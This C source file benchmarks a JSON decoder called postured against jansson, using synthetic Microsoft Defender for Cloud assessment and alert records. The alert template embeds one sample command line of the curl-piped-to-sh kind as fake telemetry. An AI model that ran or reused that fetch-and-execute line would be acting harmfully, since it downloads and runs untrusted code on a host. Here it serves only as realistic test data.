/* postured bench decode: postured's decoder against jansson's json_loadb over the same
 * events in one run, alternating, median of 5 rounds each.
 *
 * The event mix (--source): "gen" (default) takes the Defender assessments and alerts that
 * `postured gen` produces (src/gen/pd_gen.h, fixed seed, alert noise on); "templates" builds
 * them from this file's templates shaped like the real continuous-export records (plus the
 * real sample lines when the samples are around). */
#include "pd_buf.h"
#include "pd_cli.h"
#include "pd_decode.h"
#include "pd_engine.h" /* pd_cmd_bench_engine */
#include "pd_gen.h"
#include "pd_snapshot.h" /* pd_cmd_bench_restore */
#include "pd_store.h"    /* pd_cmd_bench_partition */
#include "pd_time.h"

#include <jansson.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

typedef struct corpus {
    pd_buf data;
    size_t *off, *len;
    size_t n, cap;
    size_t assessments, alerts, other;
} corpus;

static int corpus_add(corpus *c, const char *p, size_t n)
{
    if (c->n == c->cap) {
        size_t cap = c->cap ? c->cap * 2 : 1024;
        size_t *o = realloc(c->off, cap * sizeof(*o));
        if (!o)
            return PD_ENOMEM;
        c->off = o;
        size_t *l = realloc(c->len, cap * sizeof(*l));
        if (!l)
            return PD_ENOMEM;
        c->len = l;
        c->cap = cap;
    }
    c->off[c->n] = c->data.len;
    c->len[c->n] = n;
    pd_buf_append(&c->data, p, n);
    c->n++;
    return c->data.oom ? PD_ENOMEM : 0;
}

/* xorshift: deterministic variety without libc rand state. */
static uint64_t rng(uint64_t *s)
{
    uint64_t x = *s;
    x ^= x << 13;
    x ^= x >> 7;
    x ^= x << 17;
    return *s = x;
}

static void guid(uint64_t *s, char out[37])
{
    uint64_t a = rng(s), b = rng(s);
    snprintf(out, 37, "%08x-%04x-%04x-%04x-%012llx", (unsigned)(a >> 32),
             (unsigned)(a >> 16) & 0xffff, (unsigned)a & 0xffff, (unsigned)(b >> 48),
             (unsigned long long)(b & 0xffffffffffffULL));
}

static const char *const recs[][3] = {
    {"4ab6e3c5-74dd-8b35-9ab9-f61b30875b27", "System updates should be installed on your machines",
     "High"},
    {"ffff0522-1e88-47fc-8382-2a80ba848f5d",
     "Machines should have a vulnerability assessment solution", "Medium"},
    {"1195afff-c881-495e-9bc5-1486211ae03f",
     "Machines should have a vulnerability findings resolved", "High"},
    {"d57a4221-a804-52ca-3dea-768284f06bb7",
     "Disk encryption should be applied on virtual machines", "High"},
    {"83f577bd-a1b6-b7e1-0891-12ca19d1e6df",
     "Endpoint protection health issues on machines should be resolved", "Medium"},
    {"c476dc48-8110-4139-91af-c8d940896b98",
     "Vulnerabilities in security configuration on your Linux machines should be remediated",
     "Low"},
};
static const char *const statuses[] = {"Healthy", "Unhealthy", "Unhealthy", "NotApplicable"};
static const char *const intents[] = {"PreAttack", "Execution", "LateralMovement, Persistence",
                                      "CredentialAccess", "Exfiltration"};

static void make_assessment(pd_buf *b, uint64_t *s, unsigned i)
{
    const char *const *r = recs[rng(s) % PD_ARRAY_LEN(recs)];
    char sub[37];
    guid(s, sub);
    char when[PD_RFC3339_LEN];
    pd_time_format(1700000000000LL + (int64_t)(rng(s) % 86400000ULL) * 30, when);
    const char *st = statuses[rng(s) % PD_ARRAY_LEN(statuses)];
    pd_buf_printf(
        b,
        "{\"assessmentEventDataEnrichment\":{\"action\":\"%s\",\"apiVersion\":\"2019-01-01\","
        "\"isSnapshot\":%s},\"securityEventDataEnrichment\":{\"action\":\"%s\",\"apiVersion\":"
        "\"2019-01-01\",\"isSnapshot\":%s},\"tenantId\":\"aa40685b-417d-4664-b4ec-8f7640719adb\","
        "\"type\":\"Microsoft.Security/assessments\",\"kind\":null,\"location\":null,"
        "\"id\":\"/subscriptions/%s/resourceGroups/rg-prod-%u/providers/Microsoft.Compute/"
        "virtualMachines/vm-%05u/providers/Microsoft.Security/assessments/%s\",\"name\":\"%s\","
        "\"tags\":{\"env\":\"prod\",\"owner\":\"team-%u\",\"tier\":\"web\"},"
        "\"properties\":{\"resourceDetails\":{\"Source\":\"Azure\",\"Id\":\"/subscriptions/%s/"
        "resourceGroups/rg-prod-%u/providers/Microsoft.Compute/virtualMachines/vm-%05u\"},"
        "\"displayName\":\"%s\",\"status\":{\"code\":\"%s\",\"statusChangeDate\":\"%s\","
        "\"firstEvaluationDate\":\"2023-05-09T13:19:49.3381028Z\"},\"additionalData\":{"
        "\"kind\":\"VirtualMachine\"},\"metadata\":{\"displayName\":\"%s\",\"assessmentType\":"
        "\"BuiltIn\",\"policyDefinitionId\":\"/providers/microsoft.authorization/"
        "policydefinitions/0820b7b9-23aa-4725-a1ce-ae4558f718e5\",\"description\":\"Missing "
        "security and critical updates can make your machines vulnerable to attack. Install "
        "them to keep the machine protected \\u2014 see the remediation steps.\","
        "\"remediationDescription\":\"To remediate, go to the recommendation page<br>1. "
        "Select the machines<br>2. Click \\\"Fix\\\" and review<br>3. Click Save\","
        "\"categories\":[\"Compute\"],\"severity\":\"%s\",\"userImpact\":\"Low\","
        "\"implementationEffort\":\"Low\",\"threats\":[\"MaliciousInsider\","
        "\"AccountBreach\",\"DataExfiltration\"]},\"links\":{\"azurePortal\":\"portal.azure.com/"
        "#blade/Microsoft_Azure_Security/RecommendationsBlade/assessmentKey/%s/resourceId/"
        "%%2fsubscriptions%%2f%s%%2fresourcegroups%%2frg-prod-%u%%2fproviders%%2fmicrosoft."
        "compute%%2fvirtualmachines%%2fvm-%05u\"}}}",
        (i % 50) ? "Write" : "Delete", (i % 7) ? "false" : "true", (i % 50) ? "Write" : "Delete",
        (i % 7) ? "false" : "true", sub, i % 9, i % 997, r[0], r[0], i % 5, sub, i % 9, i % 997,
        r[1], st, when, r[1], r[2], r[0], sub, i % 9, i % 997);
}

static void make_alert(pd_buf *b, uint64_t *s, unsigned i)
{
    char sub[37], aid[37];
    guid(s, sub);
    guid(s, aid);
    char t0[PD_RFC3339_LEN], t1[PD_RFC3339_LEN];
    int64_t start = 1700000000000LL + (int64_t)(rng(s) % 86400000ULL) * 30;
    pd_time_format(start, t0);
    pd_time_format(start + 84000, t1);
    pd_buf_printf(
        b,
        "{\"VendorName\":\"Microsoft\",\"AlertType\":\"VM_SuspiciousActivity%u\",\"ProductName\":"
        "\"Microsoft Defender for Cloud\",\"StartTimeUtc\":\"%s\",\"EndTimeUtc\":\"%s\","
        "\"TimeGenerated\":\"%s\",\"ProcessingEndTime\":\"%s\",\"Severity\":\"%s\",\"Status\":"
        "\"New\",\"ProviderAlertStatus\":null,\"ConfidenceLevel\":null,\"ConfidenceScore\":null,"
        "\"IsIncident\":false,\"SystemAlertId\":\"2517184898549829577_%s\",\"CorrelationKey\":"
        "null,\"Intent\":\"%s\",\"AzureResourceId\":\"/SUBSCRIPTIONS/%s/RESOURCEGROUPS/rg-prod-%u/"
        "providers/Microsoft.Compute/virtualMachines/vm-%05u\",\"WorkspaceId\":"
        "\"00000000-0000-0000-0000-000000000001\",\"CompromisedEntity\":\"vm-%05u\","
        "\"AlertDisplayName\":\"Suspicious process executed on vm-%05u\",\"Description\":"
        "\"Machine logs indicate a suspicious process was running on the machine, often "
        "associated with attacker attempts to access credentials.\",\"Entities\":[{\"$id\":\"4\","
        "\"Address\":\"81.2.69.%u\",\"Location\":{\"CountryCode\":\"US\",\"CountryName\":"
        "\"United States\",\"State\":\"Virginia\",\"City\":\"Washington\",\"Longitude\":"
        "-78.17197,\"Latitude\":38.73078,\"Asn\":8075},\"Asset\":false,\"Type\":\"ip\"},{\"$id\":"
        "\"5\",\"HostName\":\"vm-%05u\",\"AzureID\":\"/subscriptions/%s/resourceGroups/rg-prod-%u/"
        "providers/Microsoft.Compute/virtualMachines/vm-%05u\",\"OMSAgentID\":"
        "\"00000000-0000-0000-0000-000000000001\",\"OSFamily\":\"Linux\",\"Asset\":true,"
        "\"Type\":\"host\"},{\"$id\":\"6\",\"ProcessId\":\"0x1e49a\",\"CommandLine\":\"/bin/sh -c "
        "\\\"curl -s http://198.51.100.7/x | sh\\\"\",\"Host\":{\"$ref\":\"5\"},\"Asset\":false,"
        "\"Type\":\"process\"},{\"$id\":\"7\",\"Name\":\"svc-deploy\",\"Host\":{\"$ref\":\"5\"},"
        "\"Sid\":\"\",\"Asset\":false,\"Type\":\"account\",\"LogonId\":\"0xbd6e\"}],"
        "\"ExtendedLinks\":[{\"Href\":\"https://learn.microsoft.com/azure/defender-for-cloud/"
        "alerts-reference\",\"Category\":null,\"Label\":\"Alert reference\",\"Type\":"
        "\"webLink\"}],\"ResourceIdentifiers\":[{\"$id\":\"2\",\"AzureResourceId\":"
        "\"/subscriptions/%s/resourceGroups/rg-prod-%u/providers/Microsoft.Compute/"
        "virtualMachines/vm-%05u\",\"Type\":\"AzureResource\",\"AzureResourceTenantId\":"
        "\"aa40685b-417d-4664-b4ec-8f7640719adb\"},{\"$id\":\"3\",\"AadTenantId\":"
        "\"aa40685b-417d-4664-b4ec-8f7640719adb\",\"Type\":\"AAD\"}],\"RemediationSteps\":["
        "\"Review the process command line and the account that ran it.\",\"Isolate the machine "
        "if the activity is not expected.\"],\"ExtendedProperties\":{\"resourceType\":"
        "\"Virtual Machine\",\"Suspicious Process\":\"/bin/sh\",\"Account Session Id\":"
        "\"0xbd6e\",\"Parent Process\":\"/usr/sbin/sshd\",\"Alert Id\":\"%s\"},\"AlertUri\":"
        "\"https://portal.azure.com/#blade/Microsoft_Azure_Security_AzureDefenderForData/"
        "AlertBlade/alertId/2517184898549829577_%s/subscriptionId/%s/resourceGroup/rg-prod-%u/"
        "referencedFrom/alertDeepLink/location/westeurope\"}",
        i % 13, t0, t1, t1, t1, (i % 3) ? "Medium" : "High", aid,
        intents[rng(s) % PD_ARRAY_LEN(intents)], sub, i % 9, i % 997, i % 997, i % 997,
        (unsigned)(rng(s) % 250), i % 997, sub, i % 9, i % 997, sub, i % 9, i % 997, aid, aid, sub,
        i % 9);
}

/* The real Defender export lines, when the samples are around. */
static void add_samples(corpus *c)
{
    const char *dir = getenv("PD_SAMPLES_DIR");
    char path[1024];
    snprintf(path, sizeof(path), "%s/elastic_integrations__test-alert.log",
             dir ? dir : PD_SOURCE_DIR "/../shared/samples");
    FILE *f = fopen(path, "rb");
    if (!f)
        return;
    char *line = NULL;
    size_t cap = 0;
    ssize_t n;
    while ((n = getline(&line, &cap, f)) > 0) {
        while (n > 0 && (line[n - 1] == '\n' || line[n - 1] == '\r'))
            n--;
        if (n > 0 && !corpus_add(c, line, (size_t)n))
            c->other++;
    }
    free(line);
    fclose(f);
}

static int build_corpus(corpus *c, size_t n)
{
    uint64_t seed = 0x9e3779b97f4a7c15ULL;
    pd_buf b;
    pd_buf_init(&b);
    add_samples(c);
    for (size_t i = 0; c->n < n; i++) {
        pd_buf_reset(&b);
        /* 3 assessments : 1 alert, the usual shape of a Defender export stream. */
        if (i % 4 == 3) {
            make_alert(&b, &seed, (unsigned)i);
            c->alerts++;
        } else {
            make_assessment(&b, &seed, (unsigned)i);
            c->assessments++;
        }
        if (b.oom || corpus_add(c, b.p, b.len)) {
            pd_buf_free(&b);
            return PD_ENOMEM;
        }
    }
    pd_buf_free(&b);
    return 0;
}

/* Assessments and alerts from the generator, in its natural proportion. */
static int build_corpus_gen(corpus *c, size_t n, double alert_rate)
{
    pd_gen_opts o;
    pd_gen_opts_default(&o);
    o.seed = 42;
    o.servers = 500;
    o.days = 0;
    o.noise = true;
    o.incidents = false;
    if (alert_rate >= 0)
        o.alert_rate = alert_rate;
    o.max_events = (uint64_t)n * 20;
    pd_gen *g = NULL;
    int rc = pd_gen_create(&o, &g, NULL);
    if (rc)
        return rc;
    pd_buf b;
    pd_buf_init(&b);
    pd_gen_meta m;
    while (c->n < n && (rc = pd_gen_next(g, &b, &m)) == 0) {
        if (m.kind == PD_KIND_ASSESSMENT || m.kind == PD_KIND_ALERT) {
            if ((rc = corpus_add(c, b.p, b.len)))
                break;
            if (m.kind == PD_KIND_ALERT)
                c->alerts++;
            else
                c->assessments++;
        }
        pd_buf_reset(&b);
    }
    if (rc == PD_ENOTFOUND)
        rc = c->n ? 0 : PD_ENOTFOUND;
    pd_buf_free(&b);
    pd_gen_destroy(g);
    return rc;
}

typedef struct sink {
    uint64_t events;
    uint64_t check;
} sink;

static int count_event(void *ctx, const pd_event *ev)
{
    sink *s = ctx;
    s->events++;
    s->check += ev->resource.canon.len + (uint64_t)ev->status;
    return 0;
}

static int run_postured(pd_decoder *d, const corpus *c, sink *s, size_t *errors)
{
    for (size_t i = 0; i < c->n; i++)
        if (pd_decode(d, c->data.p + c->off[i], c->len[i], PD_FMT_AUTO, count_event, s, NULL))
            (*errors)++;
    return 0;
}

static int run_jansson(const corpus *c, sink *s, size_t *errors)
{
    for (size_t i = 0; i < c->n; i++) {
        json_error_t jerr;
        json_t *j = json_loadb(c->data.p + c->off[i], c->len[i], 0, &jerr);
        if (!j) {
            (*errors)++;
            continue;
        }
        s->events++;
        s->check += json_object_size(j);
        json_decref(j);
    }
    return 0;
}

static int cmp_double(const void *a, const void *b)
{
    double x = *(const double *)a, y = *(const double *)b;
    return (x > y) - (x < y);
}

static double cpu_seconds(void)
{
    struct timespec t;
    clock_gettime(CLOCK_THREAD_CPUTIME_ID, &t);
    return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

/* Runs passes over the corpus until `budget_ms` of wall time went by; returns messages per
 * second of this thread's CPU time, so that other processes on a shared machine do not
 * count against either decoder. */
static double measure(int which, pd_decoder *d, const corpus *c, int64_t budget_ms, sink *s,
                      size_t *errors)
{
    int64_t t0 = pd_monotonic_ms();
    uint64_t msgs = 0;
    double a = cpu_seconds();
    do {
        if (which == 0)
            run_postured(d, c, s, errors);
        else
            run_jansson(c, s, errors);
        msgs += c->n;
    } while (pd_monotonic_ms() - t0 < budget_ms);
    double secs = cpu_seconds() - a;
    return secs > 0 ? (double)msgs / secs : 0;
}

static void usage(FILE *f)
{
    fprintf(f, "usage: postured bench decode [--events N] [--seconds S] [--source gen|templates]\n"
               "                             [--alert-rate R] [--min-ratio X]\n"
               "  Decodes N Defender assessment/alert messages (default 20000) with postured's\n"
               "  decoder and with jansson's json_loadb, alternating, 5 rounds each, S seconds in\n"
               "  all (default 5); prints the medians and the ratio. --source gen (default) takes\n"
               "  them from the generator (alert noise on; --alert-rate per server per day),\n"
               "  templates from built-in templates. With --min-ratio, exits 1 below X.\n");
}

static int bench_decode(int argc, char **argv)
{
    size_t nevents = 20000;
    double seconds = 5, min_ratio = 0, alert_rate = -1;
    bool templates = false;
    for (int i = 1; i < argc; i++) {
        if (!strcmp(argv[i], "--events") && i + 1 < argc)
            nevents = strtoul(argv[++i], NULL, 10);
        else if (!strcmp(argv[i], "--seconds") && i + 1 < argc)
            seconds = strtod(argv[++i], NULL);
        else if (!strcmp(argv[i], "--alert-rate") && i + 1 < argc)
            alert_rate = strtod(argv[++i], NULL);
        else if (!strcmp(argv[i], "--source") && i + 1 < argc) {
            const char *src = argv[++i];
            if (!strcmp(src, "templates"))
                templates = true;
            else if (strcmp(src, "gen")) {
                usage(stderr);
                return 2;
            }
        } else if (!strcmp(argv[i], "--min-ratio") && i + 1 < argc)
            min_ratio = strtod(argv[++i], NULL);
        else if (!strcmp(argv[i], "--help") || !strcmp(argv[i], "-h")) {
            usage(stdout);
            return 0;
        } else {
            usage(stderr);
            return 2;
        }
    }
    if (nevents == 0 || !(seconds > 0)) {
        usage(stderr);
        return 2;
    }
    int rc = 1;
    corpus c;
    memset(&c, 0, sizeof(c));
    pd_buf_init(&c.data);
    pd_decoder *d = NULL;
    int brc = templates ? build_corpus(&c, nevents) : build_corpus_gen(&c, nevents, alert_rate);
    if (brc || pd_decoder_create(NULL, &d)) {
        fprintf(stderr, "postured bench: cannot build the event mix: %s\n", pd_strerror(brc));
        goto done;
    }
    /* Every message must decode, or the comparison is meaningless. */
    sink chk = {0, 0};
    size_t errors = 0;
    run_postured(d, &c, &chk, &errors);
    if (errors) {
        fprintf(stderr, "postured bench: %zu of %zu messages failed to decode\n", errors, c.n);
        goto done;
    }
    double mb = (double)c.data.len / 1e6;
    printf("decode benchmark (%s): %zu messages (%zu assessments, %zu alerts, %zu sample "
           "lines), %.2f MB, %.0f bytes/message\n",
           templates ? "templates" : "postured gen", c.n, c.assessments, c.alerts, c.other, mb,
           (double)c.data.len / (double)c.n);
    enum { ROUNDS = 5 };
    double pd_rate[ROUNDS], js_rate[ROUNDS];
    int64_t budget = (int64_t)(seconds * 1000.0 / (2 * ROUNDS));
    if (budget < 1)
        budget = 1;
    sink s = {0, 0};
    for (int r = 0; r < ROUNDS; r++) {
        pd_rate[r] = measure(0, d, &c, budget, &s, &errors);
        js_rate[r] = measure(1, d, &c, budget, &s, &errors);
    }
    qsort(pd_rate, ROUNDS, sizeof(double), cmp_double);
    qsort(js_rate, ROUNDS, sizeof(double), cmp_double);
    double pm = pd_rate[ROUNDS / 2], jm = js_rate[ROUNDS / 2];
    double bpm = (double)c.data.len / (double)c.n / 1e6;
    printf("postured pd_decode:  %10.0f messages/s  %8.1f MB/s  (median of %d, per CPU second)\n",
           pm, pm * bpm, ROUNDS);
    printf("jansson json_loadb:  %10.0f messages/s  %8.1f MB/s  (median of %d, per CPU second)\n",
           jm, jm * bpm, ROUNDS);
    double ratio = jm > 0 ? pm / jm : 0;
    printf("ratio: %.1fx  (checksum %llu, errors %zu)\n", ratio, (unsigned long long)s.check,
           errors);
    rc = (min_ratio > 0 && ratio < min_ratio) ? 1 : 0;
    if (rc)
        fprintf(stderr, "postured bench: ratio %.1f is below --min-ratio %.1f\n", ratio, min_ratio);
done:
    pd_decoder_destroy(d);
    pd_buf_free(&c.data);
    free(c.off);
    free(c.len);
    return rc;
}

int pd_cmd_bench(int argc, char **argv)
{
    if (argc >= 2 && !strcmp(argv[1], "decode"))
        return bench_decode(argc - 1, argv + 1);
    if (argc >= 2 && !strcmp(argv[1], "engine"))
        return pd_cmd_bench_engine(argc - 1, argv + 1);
    if (argc >= 2 && !strcmp(argv[1], "restore"))
        return pd_cmd_bench_restore(argc - 1, argv + 1);
    if (argc >= 2 && !strcmp(argv[1], "partition-restore"))
        return pd_cmd_bench_partition(argc - 1, argv + 1);
    fprintf(stderr, "usage: postured bench decode [--events N] [--seconds S]\n"
                    "       postured bench engine [--pairs N] [--burst K] (--help)\n"
                    "       postured bench restore [--pairs N] (--help)\n"
                    "       postured bench partition-restore --bootstrap B [--pairs N] "
                    "(--help)\n");
    return 2;
}
